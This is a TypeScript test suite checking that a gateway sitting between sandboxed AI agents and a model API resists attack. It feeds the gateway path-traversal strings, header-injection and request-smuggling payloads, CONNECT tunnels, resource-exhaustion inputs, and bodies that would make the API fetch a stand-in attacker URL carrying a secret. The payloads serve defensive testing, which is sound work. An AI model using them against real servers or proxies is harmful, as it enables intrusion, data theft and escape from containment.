import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { startScriptedModel, type ScriptedModel } from "@mendwatch/scripted-model";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { openRun } from "../../../../../../test/support/agent-run.ts";
import { askSocket, writeRaw } from "../../../../../../test/support/unix-http.ts";
import { openGateway, type Gateway } from "./gateway.ts";

const asked = JSON.stringify({
  model: "claude-sonnet-5-5",
  max_tokens: 10,
  messages: [{ role: "user", content: "attack" }],
});

/** A request that would be forwarded, with this request line and these headers. */
function raw(line: string, headers: readonly string[] = [], body = asked): string {
  const length = `content-length: ${Buffer.byteLength(body)}`;
  return [line, "host: gateway", length, ...headers, "", body].join("\r\n");
}

describe("what is inside of a box cannot make the gateway", { timeout: 30_000 }, () => {
  let folder: string;
  let model: ScriptedModel;
  let gateway: Gateway;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "mendwatch-gateway-"));
    model = await startScriptedModel([]);
    gateway = await openGateway(
      {
        socket: join(folder, "api.sock"),
        upstream: model.url,
        credential: { kind: "api-key", secret: "sk-real" },
        run: openRun(),
      },
      { connect: 20_000, answer: 20_000, idle: 20_000, headers: 1_000, request: 2_000 },
    );
  });
  afterAll(async () => {
    await gateway.close();
    await model.close();
    await rm(folder, { recursive: true, force: true });
  });

  /** Nothing came through; and the gateway still does what it is for. */
  async function expectUnharmed(): Promise<void> {
    const before = model.received.length;
    const answer = await askSocket(gateway.socket, { path: "/v1/messages", body: asked });
    expect(answer.status).toBe(200);
    expect(model.received.slice(before).map(({ path }) => path)).toEqual(["/v1/messages"]);
  }

  for (const target of [
    "/",
    "/v1/files",
    "/v1/messages/batches",
    "/v1/messages/",
    "/v1/messages/../files",
    "/v1/messages/..%2ffiles",
    "/v1/messages%2f..%2ffiles",
    "/v1/messages/count_tokens/../../files",
    "//v1/messages",
    "/./v1/messages",
    "/V1/messages",
    "/v1\\messages",
    "/v1/messages;x",
    "/v1/messages#x",
    "/v1/messages?x=%0d%0ahost:%20evil",
    "/v1/messages?/../files",
    "/v1/messages?@evil.example/",
    `/v1/messages?${"x".repeat(300)}`,
    "http://evil.example/v1/messages",
    "https://api.anthropic.com/v1/files",
    "evil.example:443",
    "@evil.example/v1/messages",
    "*",
  ]) {
    it(`forward POST ${target.slice(0, 50)}`, async () => {
      const before = model.received.length;

      const answer = await writeRaw(gateway.socket, raw(`POST ${target} HTTP/1.1`));

      expect(answer).toMatch(/^HTTP\/1\.1 (400|403) /);
      expect(model.received).toHaveLength(before);
      await expectUnharmed();
    });
  }

  for (const method of ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD"]) {
    it(`forward ${method} /v1/messages`, async () => {
      const before = model.received.length;

      const answer = await writeRaw(gateway.socket, raw(`${method} /v1/messages HTTP/1.1`));

      expect(answer).toMatch(/^HTTP\/1\.1 403 /);
      expect(model.received).toHaveLength(before);
    });
  }

  it("open a tunnel with CONNECT", async () => {
    const answer = await writeRaw(gateway.socket, raw("CONNECT evil.example:443 HTTP/1.1"));

    expect(answer).not.toContain("200");
    await expectUnharmed();
  });

  it("become another protocol", async () => {
    const before = model.received.length;
    const upgrade = ["connection: upgrade", "upgrade: websocket", "sec-websocket-version: 13"];

    await writeRaw(gateway.socket, raw("GET /v1/messages HTTP/1.1", upgrade));
    expect(model.received).toHaveLength(before);
    const closed = [...upgrade, "connection: close"];
    const answer = await writeRaw(gateway.socket, raw("POST /v1/messages HTTP/1.1", closed));

    expect(answer).not.toContain("101");
    for (const { headers } of model.received.slice(before)) {
      expect(headers).not.toHaveProperty("upgrade");
    }
    expect(await writeRaw(gateway.socket, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")).toContain("400");
    await expectUnharmed();
  });

  it("address another host", async () => {
    const before = model.received.length;
    const line = "POST /v1/messages HTTP/1.1";
    const length = `content-length: ${asked.length}`;

    const answer = await writeRaw(
      gateway.socket,
      [line, "host: evil.example", "connection: close", length, "", asked].join("\r\n"),
    );

    expect(answer).toContain("200");
    const [arrived] = model.received.slice(before);
    expect(arrived?.headers["host"]).toBe(new URL(model.url).host);
    const two = [line, "host: a", "host: b", "connection: close", length, "", asked].join("\r\n");
    await writeRaw(gateway.socket, two);
    expect(model.received.slice(before).map(({ headers }) => headers["host"])).not.toContain("b");
  });

  for (const [what, headers] of [
    ["both lengths", ["transfer-encoding: chunked"]],
    ["two lengths", ["content-length: 5"]],
    ["an encoding that is none", ["transfer-encoding: xchunked"]],
    ["an encoding behind another", ["transfer-encoding: chunked, identity"]],
    ["a folded encoding", ["transfer-encoding:\r\n chunked"]],
    ["a line end in a header", ["x-app: a\nhost: evil.example"]],
    ["a bare return in a header", ["x-app: a\rb"]],
    ["a zero byte in a header", ["x-app: a\0b"]],
    ["a name with a space", ["content-length : 5"]],
  ] as const) {
    it(`smuggle a second request by ${what}`, async () => {
      const before = model.received.length;
      const smuggled = `${raw("POST /v1/messages HTTP/1.1", headers)}POST /v1/files HTTP/1.1\r\nhost: a\r\n\r\n`;

      const answer = await writeRaw(gateway.socket, smuggled);

      expect(answer).toMatch(/^HTTP\/1\.1 400 /);
      expect(model.received).toHaveLength(before);
      await expectUnharmed();
    });
  }

  it("forward the second of two requests in one piece where only the first may pass", async () => {
    const before = model.received.length;
    const second = raw("POST /v1/files HTTP/1.1");

    const answer = await writeRaw(gateway.socket, raw("POST /v1/messages HTTP/1.1") + second);

    expect(answer).toMatch(/^HTTP\/1\.1 200 [^]*HTTP\/1\.1 403 /);
    expect(model.received.slice(before).map(({ path }) => path)).toEqual(["/v1/messages"]);
  });

  it("hold what is too large in memory", async () => {
    const before = model.received.length;
    const declared = "POST /v1/messages HTTP/1.1\r\nhost: a\r\ncontent-length: 104857600\r\n\r\n";
    const chunked = "POST /v1/messages HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n";
    const piece = `100000\r\n${"x".repeat(0x100000)}\r\n`;

    expect(await writeRaw(gateway.socket, declared)).toContain("413");
    const pieces = Array.from({ length: 100 }, () => piece);
    const answer = await writeRaw(gateway.socket, chunked, ...pieces, "0\r\n\r\n");

    // Who has it whole says that it is no JSON; whether the refusal arrives before the end is chance.
    expect(answer).not.toContain("403");
    expect(model.received).toHaveLength(before);
    await expectUnharmed();
  });

  it("wait for ever for headers or for a body", async () => {
    const before = model.received.length;

    const headers = await writeRaw(gateway.socket, "POST /v1/messages HTTP/1.1\r\nhost: a\r\nx: ");
    const begun = "POST /v1/messages HTTP/1.1\r\nhost: a\r\ncontent-length: 100\r\n\r\n{";
    const body = await writeRaw(gateway.socket, begun);

    expect(headers).toContain("408");
    expect(body).not.toContain("200");
    expect(model.received).toHaveLength(before);
    await expectUnharmed();
  });

  it("take too many requests at once, or headers without end", async () => {
    const huge = raw("POST /v1/messages HTTP/1.1", [`x-app: ${"x".repeat(100_000)}`]);

    expect(await writeRaw(gateway.socket, huge)).toContain("431");
    // The last byte never comes.
    const slow = raw("POST /v1/messages HTTP/1.1").slice(0, -1);
    const answers = await Promise.all(
      Array.from({ length: 40 }, () => writeRaw(gateway.socket, slow)),
    );

    expect(answers.filter((answer) => answer.includes("529")).length).toBeGreaterThan(5);
    expect(answers.filter((answer) => answer.includes("200"))).toEqual([]);
    await expectUnharmed();
  });

  it("let the API fetch what a request names, or run tools itself", async () => {
    const before = model.received.length;
    const message = { model: "claude-sonnet-5-5", max_tokens: 10 };
    const fetching = { type: "image", source: { type: "url", url: "http://evil.example/?secret" } };
    const bodies = [
      { ...message, messages: [{ role: "user", content: [fetching] }] },
      { ...message, messages: [], tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
      { ...message, messages: [], mcp_servers: [{ type: "url", url: "http://evil.example" }] },
    ];

    for (const body of bodies) {
      for (const path of ["/v1/messages", "/v1/messages/count_tokens"]) {
        const answer = await askSocket(gateway.socket, { path, body: JSON.stringify(body) });
        expect(answer.status).toBe(403);
      }
    }

    expect(model.received).toHaveLength(before);
    expect(gateway.trouble()).toMatchObject({ kind: "refused", status: null });
    await expectUnharmed();
  });

  it("read a request otherwise than the API would", async () => {
    const before = model.received.length;
    const twice = `{"model":"claude-sonnet-5-5","max_tokens":10,"messages":[],"speed":"fast","speed":"standard"}`;

    await askSocket(gateway.socket, { path: "/v1/messages", body: twice });
    await askSocket(gateway.socket, { path: "/v1/messages", body: `${asked}{"speed":"fast"}` });
    await askSocket(gateway.socket, { path: "/v1/messages", body: "[".repeat(1_000_000) });

    expect(model.received.slice(before).map(({ body }) => body)).toEqual([
      { model: "claude-sonnet-5-5", max_tokens: 10, messages: [], speed: "standard" },
    ]);
    await expectUnharmed();
  });

  it("fall over a body that is nested without end", async () => {
    const deep = asked.replace('"attack"', `${"[".repeat(200_000)}${"]".repeat(200_000)}`);

    const answer = await askSocket(gateway.socket, { path: "/v1/messages", body: deep });

    expect(answer.status).toBe(400);
    await expectUnharmed();
  });
});
